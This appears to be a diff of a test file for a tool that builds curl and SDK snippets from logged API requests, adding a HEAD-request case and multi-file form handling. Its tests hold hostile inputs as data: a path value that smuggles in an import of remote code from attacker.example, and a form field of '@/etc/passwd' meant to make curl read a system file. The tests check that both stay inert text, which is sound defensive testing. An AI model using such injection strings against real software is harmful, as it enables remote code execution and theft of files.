@@ -47,7 +47,15 @@ it("sends a link step with the link token, which both snippets leave to whoever 
   expect(curl).toContain(' -H "x-service-link-token: $SANGUINE_LINK_TOKEN" ');
 });
 
-it("prints what a rejected request chose as text, never as code or as the name of a file", async () => {
+it("does not wait for the body of a HEAD [CTL-11]", () => {
+  const request = { path: "/v2/user", user_id: null, params: {}, query: "limit=1", body: undefined };
+  const entry = createNewEntry(1, { method: "HEAD", operation: "users.list", request });
+  expect(buildSnippets(entry, "http://127.0.0.1:1").curl).toBe(
+    `curl --head 'http://127.0.0.1:1/v2/user?limit=1' \\\n  -H "x-service-api-key: $SANGUINE_API_KEY"`,
+  );
+});
+
+it("leaves each file of a form to whoever runs the snippets, and prints what a rejected request chose as text, never as code or as the name of a file [CTL-11]", async () => {
   const mock = createMock();
   const planted = '1); await import("https://attacker.example/x.js"); (0';
   await mock.fetch(`${mock.url}/v3/lab_tests/${encodeURIComponent(planted)}/markers/2`);
@@ -55,10 +63,12 @@ it("prints what a rejected request chose as text, never as code or as the name o
   expect(entry).toMatchObject({ status: 401, operation: "markers.get" });
   const { sdk } = buildSnippets(entry as NonNullable<typeof entry>, mock.url);
   expect(sdk).toBe(`await client.markers.get(${JSON.stringify(planted)}, "2");`);
-  const body = { user_id: "@/etc/passwd", file: "<5 bytes>" };
+  const body = { user_id: "@/etc/passwd", file: ["<5 bytes>", "<7 bytes>"] };
   const request = { path: "/lab_report/v1/parser/job", user_id: null, params: {}, query: "", body };
   const upload = createNewEntry(1, { method: "POST", operation: "labReports.create", request });
-  expect(buildSnippets(upload, mock.url).curl).toMatch(
-    / --form-string 'user_id=@\/etc\/passwd' \\\n {2}-F 'file=@FILE'$/,
+  const snippets = buildSnippets(upload, mock.url);
+  expect(snippets.curl).toMatch(
+    / --form-string 'user_id=@\/etc\/passwd' \\\n {2}-F 'file=@FILE' \\\n {2}-F 'file=@FILE'$/,
   );
+  expect(snippets.sdk).toBe('await client.labReports.create({ user_id: "@/etc/passwd", file });');
 });
